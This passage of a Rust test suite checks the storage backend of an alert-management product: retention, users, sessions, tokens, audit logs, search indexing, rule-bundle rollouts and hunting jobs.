        s.update_alert(&a.id, &u, 2).await.expect("update");
    }
    assert_rollup_matches_scan(s, "after triage").await;

    // Retention by age (a cut inside a minute), then by count.
    let r = s
        .apply_retention(COUNT_T0 + 2 * H + 30_001, Some(0), None)
        .await
        .expect("retention");
    assert!(r.expired > 0);
    assert_rollup_matches_scan(s, "after retention by age").await;
    let left = s.stats().await.expect("stats").alerts;
    let r = s
        .apply_retention(0, None, Some(left - 40))
        .await
        .expect("retention");
    assert_eq!(r.trimmed, 40);
    assert_rollup_matches_scan(s, "after retention by count").await;
    // Deleted alerts delivered again are counted again.
    let back = s.insert_alerts(&alerts[..60]).await.expect("insert");
    assert!(back.inserted > 0);
    assert_rollup_matches_scan(s, "after redelivery").await;
    // Everything gone: no buckets at all.
    s.apply_retention(i64::MAX, Some(0), None)
        .await
        .expect("retention");
    assert!(s
        .alert_counts(&AlertFilter::default(), H)
        .await
        .expect("counts")
        .is_empty());
}

async fn users(h: &Harness) {
    let s = &*h.store;
    assert_eq!(s.user_count().await.expect("count"), 0);
    let a = s
        .create_user("admin", "$argon2id$a", Role::Admin, 10)
        .await
        .expect("create");
    let b = s
        .create_user("bob", "$argon2id$b", Role::Viewer, 20)
        .await
        .expect("create");
    assert_ne!(a.id, b.id);
    assert_eq!(
        (a.name.as_str(), a.role, a.disabled, a.created_ms),
        ("admin", Role::Admin, false, 10)
    );
    match s.create_user("bob", "x", Role::Admin, 30).await {
        Err(StoreError::Conflict { what: "user", id }) => assert_eq!(id, "bob"),
        other => panic!("expected conflict, got {other:?}"),
    }
    assert_eq!(s.user_count().await.expect("count"), 2);
    assert_eq!(s.user_by_name("bob").await.expect("get"), Some(b.clone()));
    assert_eq!(s.user_by_name("Bob").await.expect("get"), None);
    assert_eq!(s.user(a.id).await.expect("get"), Some(a.clone()));
    assert_eq!(s.user(a.id + b.id + 100).await.expect("get"), None);
    assert_eq!(s.users().await.expect("users"), vec![a.clone(), b.clone()]);
    let b2 = s
        .update_user(b.id, Some(Role::Analyst), None, None)
        .await
        .expect("update");
    assert_eq!(
        (b2.role, b2.password_hash.as_str(), b2.disabled),
        (Role::Analyst, "$argon2id$b", false)
    );
    let b3 = s
        .update_user(b.id, None, Some("$argon2id$new"), Some(true))
        .await
        .expect("update");
    assert_eq!(
        (b3.role, b3.password_hash.as_str(), b3.disabled),
        (Role::Analyst, "$argon2id$new", true)
    );
    assert_eq!(s.user(b.id).await.expect("get"), Some(b3));
    assert!(matches!(
        s.update_user(9_999, Some(Role::Admin), None, None).await,
        Err(StoreError::NotFound { what: "user", .. })
    ));
}

async fn sessions_expire(h: &Harness) {
    let s = &*h.store;
    let u = s
        .create_user("alice", "h", Role::Analyst, 1)
        .await
        .expect("user");
    let sess = |t: &str, exp: i64| Session {
        token_hash: picket_store::token_hash(t),
        user_id: u.id,
        created_ms: 100,
        expires_ms: exp,
    };
    s.create_session(&sess("a", 1_000)).await.expect("create");
    s.create_session(&sess("b", 2_000)).await.expect("create");
    assert!(matches!(
        s.create_session(&sess("b", 3_000)).await,
        Err(StoreError::Conflict { .. })
    ));
    let (got, user) = s
        .session(&sess("a", 0).token_hash, 999)
        .await
        .expect("get")
        .expect("live");
    assert_eq!((got, user), (sess("a", 1_000), u.clone()));
    assert_eq!(
        s.session(&sess("a", 0).token_hash, 1_000)
            .await
            .expect("get"),
        None,
        "expired at expires_ms"
    );
    assert_eq!(
        s.session(&picket_store::token_hash("zzz"), 0)
            .await
            .expect("get"),
        None
    );
    s.delete_session(&sess("a", 0).token_hash)
        .await
        .expect("delete");
    assert_eq!(
        s.session(&sess("a", 0).token_hash, 0).await.expect("get"),
        None
    );
    s.delete_session(&sess("a", 0).token_hash)
        .await
        .expect("delete twice is fine");
    s.create_session(&sess("c", 5_000)).await.expect("create");
    s.delete_user_sessions(u.id).await.expect("delete all");
    assert_eq!(
        s.session(&sess("b", 0).token_hash, 0).await.expect("get"),
        None
    );
    assert_eq!(
        s.session(&sess("c", 0).token_hash, 0).await.expect("get"),
        None
    );
}

async fn tokens_refusals(h: &Harness) {
    let s = &*h.store;
    let th = picket_store::token_hash;
    let t1 = s
        .create_token(&th("one"), "site 1", "admin", 100, 10_000)
        .await
        .expect("create");
    let t2 = s
        .create_token(&th("two"), "site 2", "admin", 200, 300)
        .await
        .expect("create");
    assert!(matches!(
        s.create_token(&th("two"), "dup", "admin", 200, 300).await,
        Err(StoreError::Conflict { .. })
    ));
    assert_eq!(
        s.tokens().await.expect("tokens"),
        vec![t2.clone(), t1.clone()],
        "newest first"
    );
    let dev = hex_id(0xd0, 9);
    let used = s
        .use_token(&th("one"), &dev, 500)
        .await
        .expect("use")
        .expect("accepted");
    assert_eq!(
        (used.id, used.used_ms, used.used_by.as_deref()),
        (t1.id, Some(500), Some(dev.as_str()))
    );
    assert_eq!(
        s.use_token(&th("one"), &dev, 600).await.expect("use"),
        Err(TokenRefusal::Used)
    );
    assert_eq!(
        s.use_token(&th("two"), &dev, 300).await.expect("use"),
        Err(TokenRefusal::Expired)
    );
    assert_eq!(
        s.use_token(&th("three"), &dev, 1).await.expect("use"),
        Err(TokenRefusal::Invalid)
    );
    let listed = s.tokens().await.expect("tokens");
    assert_eq!(listed[1].used_by.as_deref(), Some(dev.as_str()));
    assert_eq!(listed[0].used_ms, None);
}

async fn token_use_is_atomic(h: &Harness) {
    let s = Arc::clone(&h.store);
    let th = picket_store::token_hash("race");
    s.create_token(&th, "race", "admin", 1, i64::MAX)
        .await
        .expect("create");
    let tasks: Vec<_> = (0..16u64)
        .map(|i| {
            let s = Arc::clone(&s);
            let th = th.clone();
            tokio::spawn(async move { s.use_token(&th, &hex_id(0xd0, i), 10).await })
        })
        .collect();
    let mut ok = Vec::new();
    for t in tasks {
        match t.await.expect("join").expect("use") {
            Ok(tok) => ok.push(tok),
            Err(r) => assert_eq!(r, TokenRefusal::Used),
        }
    }
    assert_eq!(ok.len(), 1, "exactly one device gets the token");
    let stored = s.tokens().await.expect("tokens");
    assert_eq!(stored[0].used_by, ok[0].used_by);
}

async fn audit_log_filters(h: &Harness) {
    let s = &*h.store;
    let entry = |at: i64, actor: &str, action: &str| AuditEntry {
        id: 0,
        at_ms: at,
        actor: actor.into(),
        action: action.into(),
        target: format!("t-{at}"),
        detail: json!({"at": at, "why": "test"}),
    };
    let entries = [
        entry(10, "admin", "user.create"),
        entry(20, "bob", "device.revoke"),
        entry(30, "admin", "device.revoke"),
        entry(40, "system", "retention.run"),
        entry(50, "admin", "Device.odd"),
        entry(60, "admin", "device_x"),
    ];
    for e in &entries {
        s.audit(e).await.expect("audit");
    }
    let all = s
        .audit_log(&AuditFilter::default(), 100)
        .await
        .expect("log");
    assert_eq!(
        all.iter().map(|e| e.at_ms).collect::<Vec<_>>(),
        vec![60, 50, 40, 30, 20, 10]
    );
    assert!(
        all.windows(2).all(|w| w[0].id > w[1].id),
        "ids ascend with time"
    );
    assert_eq!(
        all[3],
        AuditEntry {
            id: all[3].id,
            ..entries[2].clone()
        }
    );
    let at = |f: AuditFilter, limit| async move {
        s.audit_log(&f, limit)
            .await
            .expect("log")
            .iter()
            .map(|e| e.at_ms)
            .collect::<Vec<_>>()
    };
    assert_eq!(at(AuditFilter::default(), 2).await, vec![60, 50]);
    assert_eq!(
        at(
            AuditFilter {
                actor: Some("admin".into()),
                ..Default::default()
            },
            100
        )
        .await,
        vec![60, 50, 30, 10]
    );
    assert_eq!(
        at(
            AuditFilter {
                action_prefix: Some("device.".into()),
                ..Default::default()
            },
            100
        )
        .await,
        vec![30, 20],
        "prefix is literal and case-sensitive"
    );
    assert_eq!(
        at(
            AuditFilter {
                before_id: Some(all[1].id),
                ..Default::default()
            },
            100
        )
        .await,
        vec![40, 30, 20, 10]
    );
    assert_eq!(
        at(
            AuditFilter {
                since_ms: Some(30),
                actor: Some("admin".into()),
                ..Default::default()
            },
            100
        )
        .await,
        vec![60, 50, 30]
    );
}

async fn retention_by_age_and_count(h: &Harness) {
    let s = &*h.store;
    let alerts = seed(s, 40).await; // timestamps t0 + (n / 4) s
    let t0 = 1_700_000_000_000;
    for n in [0, 1, 20, 39] {
        s.add_note(
            &alert(n).id,
            &Note {
                author: "a".into(),
                at_ms: 1,
                text: "x".into(),
            },
        )
        .await
        .expect("note");
    }
    let u = s
        .create_user("u", "h", Role::Viewer, 1)
        .await
        .expect("user");
    for (t, exp) in [("old", t0), ("new", t0 + 1_000_000)] {
        s.create_session(&Session {
            token_hash: picket_store::token_hash(t),
            user_id: u.id,
            created_ms: 0,
            expires_ms: exp,
        })
        .await
        .expect("session");
    }
    // Age: everything before t0 + 2 s (alerts 0..8) goes.
    let now = t0 + 10_000;
    let r = s
        .apply_retention(now, Some(8_000), None)
        .await
        .expect("retention");
    assert_eq!((r.expired, r.trimmed), (8, 0));
    assert_eq!(s.alert(&alert(7).id).await.expect("get"), None);
    assert!(s.alert(&alert(8).id).await.expect("get").is_some());
    assert!(s.notes(&alert(0).id).await.expect("notes").is_empty());
    assert_eq!(s.notes(&alert(20).id).await.expect("notes").len(), 1);
    // Expired sessions are swept too.
    assert_eq!(
        s.session(&picket_store::token_hash("old"), 0)
            .await
            .expect("get"),
        None
    );
    assert!(s
        .session(&picket_store::token_hash("new"), 0)
        .await
        .expect("get")
        .is_some());
    // Count: keep the newest 10.
    let r = s
        .apply_retention(now, None, Some(10))
        .await
        .expect("retention");
    assert_eq!((r.expired, r.trimmed), (0, 22));
    assert_eq!(s.stats().await.expect("stats").alerts, 10);
    let kept = all_pages(s, &AlertFilter::default(), 100).await;
    let want = model(
        &alerts[30..],
        &|_| AlertStatus::New,
        &AlertFilter::default(),
    );
    assert_eq!(kept, want);
    assert!(s.notes(&alert(20).id).await.expect("notes").is_empty());
    assert_eq!(s.notes(&alert(39).id).await.expect("notes").len(), 1);
    // Technique rows went with their alerts.
    let f = AlertFilter {
        technique: Some("T1059".into()),
        ..Default::default()
    };
    assert_eq!(
        all_pages(s, &f, 100).await,
        model(&alerts[30..], &|_| AlertStatus::New, &f)
    );
    let f = AlertFilter {
        text: Some("tool".into()),
        ..Default::default()
    };
    assert_eq!(
        all_pages(s, &f, 100).await,
        model(&alerts[30..], &|_| AlertStatus::New, &f)
    );
    // Nothing more to do.
    let r = s
        .apply_retention(now, Some(1_000_000), Some(10))
        .await
        .expect("retention");
    assert_eq!((r.expired, r.trimmed), (0, 0));
    // Deleted alert ids can be stored again (redelivery after retention).
    assert_eq!(
        s.insert_alerts(&[alert(0)]).await.expect("insert").inserted,
        1
    );
}

async fn stats_and_ping(h: &Harness) {
    let s = &*h.store;
    s.ping().await.expect("ping");
    let st = s.stats().await.expect("stats");
    assert_eq!((st.alerts, st.devices), (0, 0));
    seed(s, 30).await;
    let st = s.stats().await.expect("stats");
    assert_eq!((st.alerts, st.devices), (30, 3));
    assert!(st.bytes.is_some_and(|b| b > 0), "{st:?}");
}

async fn bad_rows_are_errors_not_panics(h: &Harness) {
    let s = &*h.store;
    seed(s, 3).await;
    h.exec_raw(&format!(
        "UPDATE alerts SET level = 9 WHERE id = '{}'",
        alert(1).id
    ))
    .await;
    match s.alert(&alert(1).id).await {
        Err(StoreError::Backend(m)) => {
            assert!(m.contains(&alert(1).id) && m.contains("level 9"), "{m}");
        }
        other => panic!("expected a backend error, got {other:?}"),
    }
    assert!(s.alerts(&AlertFilter::default(), None, 10).await.is_err());
    h.exec_raw(
        "INSERT INTO users (name, role, password_hash, created_ms) VALUES ('eve', 'root', 'x', 1)",
    )
    .await;
    assert!(
        matches!(s.user_by_name("eve").await, Err(StoreError::Backend(m)) if m.contains("root"))
    );
    h.exec_raw(&format!(
        "UPDATE devices SET last_alert_seq = -5 WHERE id = '{}'",
        device(0).id
    ))
    .await;
    assert!(
        matches!(s.device(&device(0).id).await, Err(StoreError::Backend(m)) if m.contains(&device(0).id))
    );
    // Retention still works around the damaged rows.
    h.exec_raw(&format!(
        "UPDATE alerts SET techniques = 'not json' WHERE id = '{}'",
        alert(2).id
    ))
    .await;
    let r = s
        .apply_retention(i64::MAX, Some(0), None)
        .await
        .expect("retention");
    assert_eq!(r.expired, 3);
}

// ---------------------------------------------------------------- SQLite only

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlite_reopen_keeps_everything() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("p.db");
    {
        let s = SqliteStore::open(&path).expect("open");
        seed(&s, 20).await;
        s.create_user("admin", "h", Role::Admin, 1)
            .await
            .expect("user");
        s.update_alert(
            &alert(3).id,
            &AlertUpdate {
                status: Some(AlertStatus::Resolved),
                assignee: None,
            },
            9,
        )
        .await
        .expect("update");
    }
    let s = SqliteStore::open(&path).expect("reopen");
    assert_eq!(s.stats().await.expect("stats").alerts, 20);
    assert_eq!(s.user_count().await.expect("users"), 1);
    assert_eq!(
        s.alert(&alert(3).id)
            .await
            .expect("get")
            .expect("exists")
            .status,
        AlertStatus::Resolved
    );
    assert_eq!(
        s.device(&device(1).id)
            .await
            .expect("get")
            .expect("exists")
            .last_alert_seq,
        20
    );
    let f = AlertFilter {
        text: Some("tool2".into()),
        ..Default::default()
    };
    let alerts: Vec<NewAlert> = (0..20).map(alert).collect();
    let status = |id: &str| {
        if id == alert(3).id {
            AlertStatus::Resolved
        } else {
            AlertStatus::New
        }
    };
    assert_eq!(all_pages(&s, &f, 100).await, model(&alerts, &status, &f));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlite_refuses_newer_schema() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("p.db");
    drop(SqliteStore::open(&path).expect("open"));
    rusqlite::Connection::open(&path)
        .expect("raw")
        .execute_batch("PRAGMA user_version = 99")
        .expect("bump");
    match SqliteStore::open(&path) {
        Err(StoreError::Backend(m)) => assert!(m.contains("99"), "{m}"),
        other => panic!("expected an error, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlite_backup_is_a_working_copy() {
    let dir = tempfile::tempdir().expect("tempdir");
    let s = SqliteStore::open(dir.path().join("p.db")).expect("open");
    seed(&s, 10).await;
    let copy = dir.path().join("backup.db");
    s.backup_to(&copy).await.expect("backup");
    let b = SqliteStore::open(&copy).expect("open copy");
    assert_eq!(b.stats().await.expect("stats").alerts, 10);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn open_spec_picks_the_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("spec.db");
    let spec = picket_store::StoreSpec::parse(path.to_str().expect("utf-8"));
    assert_eq!(spec, picket_store::StoreSpec::Sqlite(path.clone()));
    let s = picket_store::open(&spec).await.expect("open");
    s.ping().await.expect("ping");
    assert!(matches!(
        picket_store::StoreSpec::parse("postgres://u@h/db"),
        picket_store::StoreSpec::Postgres(_)
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlite_common_needles_use_the_scan_plan_correctly() {
    // More matches than the store's text probe counts (3,000) switches
    // SQLite from "collect matches, then sort" to "walk the list, test each".
    let h = sqlite_harness();
    let s = &*h.store;
    let alerts: Vec<NewAlert> = (0..6_500u64)
        .map(|n| NewAlert {
            command_line: Some(format!(
                "common-word {} ü-Ünïcode",
                if n % 7 == 0 { "Rare-Ish" } else { "x" }
            )),
            image: None,
            path: None,
            ..alert(n)
        })
        .collect();
    for chunk in alerts.chunks(2_000) {
        s.insert_alerts(chunk).await.expect("insert");
    }
    for (text, pages) in [("COMMON-word", 3), ("ü-Ünïcode", 3), ("rare-ish", 100)] {
        let f = AlertFilter {
            text: Some(text.into()),
            min_level: Some(Level::Low),
            ..Default::default()
        };
        let want = model(&alerts, &|_| AlertStatus::New, &f);
        let mut got = Vec::new();
        let mut after = None;
        for _ in 0..pages {
            let p = s.alerts(&f, after, 50).await.expect("page");
            got.extend(p.alerts.into_iter().map(|a| a.alert.id));
            after = p.next;
            if after.is_none() {
                break;
            }
        }
        assert_eq!(got[..], want[..got.len()], "{text}");
        assert!(!got.is_empty());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlite_search_is_complete_across_the_index_watermark() {
    // The trigram index trails ingest; searches must not depend on where
    // its watermark is: part indexed, nothing indexed, everything indexed.
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("p.db");
    let s = SqliteStore::open(&path).expect("open");
    let alerts = seed(&s, 120).await;
    s.sync_search_index().await.expect("sync");
    assert_eq!(s.search_lag().await.expect("lag"), 0);
    let more: Vec<NewAlert> = (120..200).map(alert).collect();
    s.insert_alerts(&more).await.expect("insert");
    let all: Vec<NewAlert> = alerts.into_iter().chain(more).collect();
    let check = |label: &'static str| {
        let (s, all) = (&s, &all);
        async move {
            for t in [
                "tool3",
                "FLAG=value_1",
                "data/FILE-1",
                "e_1",
                "ü",
                "nothing-like-this",
            ] {
                let f = AlertFilter {
                    text: Some(t.into()),
                    ..Default::default()
                };
                let want = model(all, &|_| AlertStatus::New, &f);
                assert_eq!(all_pages(s, &f, 7).await, want, "{label}: {t}");
            }
        }
    };
    check("tail after sync").await;
    // Forget the index entirely: every row is tail until the indexer runs.
    rusqlite::Connection::open(&path)
        .expect("raw")
        .execute_batch(
            "INSERT INTO alerts_fts (alerts_fts) VALUES ('delete-all'); \
             UPDATE search_state SET indexed_row = 0;",
        )
        .expect("reset");
    check("nothing indexed").await;
    s.sync_search_index().await.expect("sync");
    assert_eq!(s.search_lag().await.expect("lag"), 0);
    check("all indexed").await;
    // Retention of the newest rows must not leave their row numbers
    // counted as indexed (SQLite reuses them).
    s.apply_retention(i64::MAX, Some(0), None)
        .await
        .expect("retention");
    let again: Vec<NewAlert> = (300..320).map(alert).collect();
    s.insert_alerts(&again).await.expect("insert");
    let f = AlertFilter {
        text: Some("tool2".into()),
        ..Default::default()
    };
    assert_eq!(
        all_pages(&s, &f, 5).await,
        model(&again, &|_| AlertStatus::New, &f)
    );
    s.sync_search_index().await.expect("sync");
    assert_eq!(
        all_pages(&s, &f, 5).await,
        model(&again, &|_| AlertStatus::New, &f)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sqlite_inline_indexing_keeps_no_lag() {
    let dir = tempfile::tempdir().expect("tempdir");
    let s = SqliteStore::open_with(
        dir.path().join("p.db"),
        picket_store::sqlite::SqliteOptions {
            search_lag_alerts: 0,
            ..Default::default()
        },
    )
    .expect("open");
    let alerts = seed(&s, 60).await;
    assert_eq!(s.search_lag().await.expect("lag"), 0);
    let f = AlertFilter {
        text: Some("TOOL4".into()),
        ..Default::default()
    };
    assert_eq!(
        all_pages(&s, &f, 4).await,
        model(&alerts, &|_| AlertStatus::New, &f)
    );
}

// ---------------------------------------------------------------- bundles

#[allow(clippy::unwrap_used, reason = "a failed step panics with its error")]
async fn bundles_rollouts_and_device_states(h: &Harness) {
    use picket_store::rollout::{
        Assignment, BundleRule, BundleStateKind, DeviceBundleState, Rollout, RolloutSpec,
        RolloutState, RolloutStatus, StoredBundle,
    };
    let s = &*h.store;
    let bundle = |version: u64| StoredBundle {
        version,
        sha256: format!("{version:064x}"),
        size: 1000 + version,
        created_unix: 1_700_000_000,
        expires_unix: 1_800_000_000,
        targets: json!(["all"]),
        rules: vec![BundleRule {
            id: "r1".into(),
            title: "Rule one".into(),
            level: "high".into(),
            path: "rules/r1.yml".into(),
            techniques: vec!["T1059.004".into()],
        }],
        signers: vec!["ab".repeat(32)],
        uploaded_by: "op".into(),
        uploaded_ms: 5,
    };
    s.insert_bundle(&bundle(3), b"three").await.unwrap();
    s.insert_bundle(&bundle(7), &[0_u8, 255, 1]).await.unwrap();
    assert!(matches!(
        s.insert_bundle(&bundle(7), b"again").await,
        Err(StoreError::Conflict { .. })
    ));
    let listed = s.bundles().await.unwrap();
    assert_eq!(
        listed,
        vec![bundle(7), bundle(3)],
        "newest first, summary intact"
    );
    assert_eq!(
        s.bundle_bytes(7).await.unwrap().unwrap(),
        vec![0_u8, 255, 1]
    );
    assert_eq!(s.bundle_bytes(3).await.unwrap().unwrap(), b"three".to_vec());
    assert!(s.bundle_bytes(9).await.unwrap().is_none());

    let mut r = Rollout {
        id: 0,
        version: 7,
        state: RolloutState::Running,
        spec: RolloutSpec {
            stages: vec![10, 50, 100],
            ..RolloutSpec::default()
        },
        status: RolloutStatus::default(),
        created_by: "op".into(),
        created_ms: 10,
        updated_ms: 10,
    };
    let id = s.save_rollout(&r).await.unwrap();
    assert!(id > 0);
    r.id = id;
    r.state = RolloutState::Paused;
    r.status.stage = 1;
    r.status.reason = Some("failures 30 % > 10 %".into());
    assert_eq!(s.save_rollout(&r).await.unwrap(), id);
    let second = s
        .save_rollout(&Rollout {
            id: 0,
            version: 3,
            ..r.clone()
        })
        .await
        .unwrap();
    assert!(second > id);
    let all = s.rollouts().await.unwrap();
    assert_eq!(all.len(), 2);
    assert_eq!(all[1], r, "updated rollout read back whole");
    assert_eq!(all[0].id, second);
    let unknown = Rollout {
        id: 999_999,
        ..r.clone()
    };
    assert!(matches!(
        s.save_rollout(&unknown).await,
        Err(StoreError::NotFound { .. })
    ));

    let a = |d: &str, v: u64, prev: Option<u64>| Assignment {
        device_id: d.into(),
        version: v,
        rollout_id: id,
        previous_version: prev,
        assigned_ms: 20,
    };
    s.assign_bundles(&[a("d1", 3, None), a("d2", 3, None)])
        .await
        .unwrap();
    s.assign_bundles(&[a("d1", 7, Some(3)), a("d2", 0, None), a("d3", 7, None)])
        .await
        .unwrap();
    assert_eq!(
        s.assignments().await.unwrap(),
        vec![a("d1", 7, Some(3)), a("d3", 7, None)],
        "upsert, and version 0 clears"
    );

    let st = |d: &str, v: u64, state: BundleStateKind, err: Option<&str>| DeviceBundleState {
        device_id: d.into(),
        version: v,
        state,
        chunks_received: 2,
        error: err.map(str::to_owned),
        updated_ms: 30,
    };
    s.record_bundle_states(&[
        st("d1", 7, BundleStateKind::Downloading, None),
        st(
            "d3",
            7,
            BundleStateKind::Failed,
            Some("rule r1: bad modifier"),
        ),
        st("d1", 3, BundleStateKind::Active, None),
    ])
    .await
    .unwrap();
    s.record_bundle_states(&[st("d1", 7, BundleStateKind::Active, None)])
        .await
        .unwrap();
    assert_eq!(
        s.bundle_states(Some(7), None).await.unwrap(),
        vec![
            st("d1", 7, BundleStateKind::Active, None),
            st(
                "d3",
                7,
                BundleStateKind::Failed,
                Some("rule r1: bad modifier")
            ),
        ]
    );
    assert_eq!(
        s.bundle_states(None, Some("d1")).await.unwrap(),
        vec![
            st("d1", 7, BundleStateKind::Active, None),
            st("d1", 3, BundleStateKind::Active, None),
        ]
    );
    assert_eq!(s.bundle_states(None, None).await.unwrap().len(), 3);

    s.set_device_groups("d1", &["lab".into(), "eu".into()])
        .await
        .unwrap();
    s.set_device_groups("d2", &["lab".into()]).await.unwrap();
    s.set_device_groups("d2", &[]).await.unwrap();
    let g = s.device_groups().await.unwrap();
    assert_eq!(g.len(), 1);
    assert_eq!(g["d1"], vec!["lab".to_owned(), "eu".to_owned()]);
}

async fn agents_by_secret(h: &Harness) {
    let s = &*h.store;
    let dev = device(1);
    let inserted = s.insert_device(dev.clone()).await.expect("device");
    assert_eq!(
        inserted.platform, "linux",
        "a device without an agent record"
    );
    let rec = picket_store::model::AgentRecord {
        device_id: dev.id.clone(),
        platform: "windows".into(),
        secret_hash: picket_store::token_hash("agent secret"),
        created_ms: 1_000,
    };
    s.insert_agent(&rec).await.expect("insert");
    // The device now reads as the agent's platform, one by one and listed.
    assert_eq!(
        s.device(&dev.id)
            .await
            .expect("get")
            .expect("stored")
            .platform,
        "windows"
    );
    let listed = s.devices().await.expect("devices");
    assert_eq!(
        listed
            .iter()
            .find(|d| d.id == dev.id)
            .map(|d| d.platform.as_str()),
        Some("windows")
    );
    assert_eq!(
        s.agent_by_secret(&rec.secret_hash).await.expect("get"),
        Some(rec.clone())
    );
    assert_eq!(
        s.agent_by_secret(&picket_store::token_hash("other"))
            .await
            .expect("get"),
        None
    );
    assert!(
        matches!(s.insert_agent(&rec).await, Err(StoreError::Conflict { .. })),
        "one record per device"
    );
    let other = picket_store::model::AgentRecord {
        device_id: hex_id(0xa9, 2),
        ..rec
    };
    assert!(
        matches!(
            s.insert_agent(&other).await,
            Err(StoreError::Conflict { .. })
        ),
        "secret hashes are unique"
    );
}

/// Hunting jobs: create, progress, per-file states; their alerts are
/// listed only with `hunt_id`, in event-time order on the timeline, are
/// not counted, not retained away, can be triaged without touching the
/// counts, and go with their job.
#[allow(clippy::unwrap_used, reason = "a failed step panics with its error")]
async fn hunts_keep_their_alerts_apart(h: &Harness) {
    let s = &*h.store;
    seed(s, 20).await;
    let fleet_ids = all_pages(s, &AlertFilter::default(), 7).await;
    assert_eq!(fleet_ids.len(), 20);
    let counts_before = counts_by_scan(s, &AlertFilter::default(), 60_000).await;

    let new = NewHunt {
        name: "case 17".into(),
        created_by: "olga".into(),
        created_ms: 5,
        files: vec![
            NewHuntFile {
                name: "a.evtx".into(),
                size: 100,
                sha256: "aa".into(),
            },
            NewHuntFile {
                name: "b.evtx".into(),
                size: 50,
                sha256: "bb".into(),
            },
        ],
    };
    let d = s.create_hunt(&new).await.unwrap();
    assert_eq!(d.hunt.state, HuntState::Queued);
    assert_eq!(
        (d.hunt.files_total, d.hunt.bytes_total, d.hunt.files_done),
        (2, 150, 0)
    );
    assert_eq!(d.files.len(), 2);
    assert_eq!(d.files[1].name, "b.evtx");
    assert_eq!(d.files[1].state, HuntFileState::Queued);
    let other = s
        .create_hunt(&NewHunt {
            name: "other".into(),
            ..new.clone()
        })
        .await
        .unwrap();
    assert!(other.hunt.id > d.hunt.id);
    let listed: Vec<i64> = s.hunts().await.unwrap().iter().map(|h| h.id).collect();
    assert_eq!(listed, vec![other.hunt.id, d.hunt.id], "newest first");

    // Matches: event times far in the past (old logs), out of order.
    let id = d.hunt.id;
    let matches: Vec<NewAlert> = (0..6u64)
        .map(|n| NewAlert {
            id: hex_id(0xb0, n),
            device_id: String::new(),
            seq: 0,
            timestamp_ms: 1_000_000 - i64::try_from(n).unwrap() * 10,
            source: AlertSource::Upload,
            ..alert(n)
        })
        .collect();
    let rep = s.insert_hunt_alerts(id, &matches).await.unwrap();
    assert_eq!((rep.inserted, rep.duplicates), (6, 0));
    let again = s.insert_hunt_alerts(id, &matches[..2]).await.unwrap();
    assert_eq!(
        (again.inserted, again.duplicates),
        (0, 2),
        "re-run ids are skipped"
    );

    assert_eq!(
        all_pages(s, &AlertFilter::default(), 7).await,
        fleet_ids,
        "default list"
    );
    let of_hunt = AlertFilter {
        hunt_id: Some(id),
        ..AlertFilter::default()
    };
    let mut listed = all_pages(s, &of_hunt, 4).await;
    listed.sort();
    let mut want: Vec<String> = matches.iter().map(|a| a.id.clone()).collect();
    want.sort();
    assert_eq!(listed, want);
    let empty = AlertFilter {
        hunt_id: Some(other.hunt.id),
        ..AlertFilter::default()
    };
    assert!(all_pages(s, &empty, 4).await.is_empty());
    assert_eq!(
        counts_by_scan(s, &AlertFilter::default(), 60_000).await,
        counts_before
    );
    assert_rollup_matches_scan(s, "with hunt alerts").await;

    let timeline = s.hunt_alerts(id, 0, 100).await.unwrap();
    let order: Vec<&str> = timeline.iter().map(|a| a.alert.id.as_str()).collect();
    let mut by_time = matches.clone();
    by_time.sort_by_key(|a| a.timestamp_ms);
    let want: Vec<&str> = by_time.iter().map(|a| a.id.as_str()).collect();
    assert_eq!(order, want, "event-time order");
    let page = s.hunt_alerts(id, 2, 3).await.unwrap();
    assert_eq!(page.len(), 3);
    assert_eq!(page[0].alert.id, want[2]);
    assert_eq!(timeline[0].alert.event, by_time[0].event);

    // Triage of a hunt alert leaves the fleet counts alone.
    s.update_alert(
        &matches[0].id,
        &AlertUpdate {
            status: Some(AlertStatus::Resolved),
            assignee: None,
        },
        9,
    )
    .await
    .unwrap();
    assert_rollup_matches_scan(s, "after triage of a hunt alert").await;
    s.add_note(
        &matches[0].id,
        &Note {
            author: "olga".into(),
            at_ms: 9,
            text: "seen".into(),
        },
    )
    .await
    .unwrap();

    // Retention does not take a job's alerts (their times are old logs').
    let r = s
        .apply_retention(2_000_000_000_000, Some(1), None)
        .await
        .unwrap();
    assert_eq!(r.expired, 20);
    assert_eq!(all_pages(s, &of_hunt, 50).await.len(), 6);

    // Progress and per-file states.
    let mut hunt = d.hunt.clone();
    hunt.state = HuntState::Done;
    hunt.started_ms = Some(6);
    hunt.finished_ms = Some(7);
    hunt.files_done = 2;
    hunt.bytes_done = 150;
    hunt.records_done = 1234;
    hunt.matches = 6;
    s.update_hunt(&hunt).await.unwrap();
    let mut f = d.files[1].clone();
    f.state = HuntFileState::Failed;
    f.error = Some("not an EVTX file".into());
    s.update_hunt_file(id, &f).await.unwrap();
    let got = s.hunt(id).await.unwrap().unwrap();
    assert_eq!(got.hunt, hunt);
    assert_eq!(got.files[1], f);
    assert_eq!(got.files[0], d.files[0]);

    // Deleting the job takes its alerts, notes and files.
    assert!(s.delete_hunt(id).await.unwrap());
    assert!(!s.delete_hunt(id).await.unwrap());
    assert!(s.hunt(id).await.unwrap().is_none());
    assert!(all_pages(s, &of_hunt, 50).await.is_empty());
    assert!(s.alert(&matches[0].id).await.unwrap().is_none());
    assert!(s.notes(&matches[0].id).await.unwrap().is_empty());
    assert!(matches!(
        s.update_hunt(&hunt).await,
        Err(StoreError::NotFound { .. })
    ));
    assert!(matches!(
        s.update_hunt_file(id, &f).await,
        Err(StoreError::NotFound { .. })
    ));
    assert_eq!(s.hunts().await.unwrap().len(), 1);
}
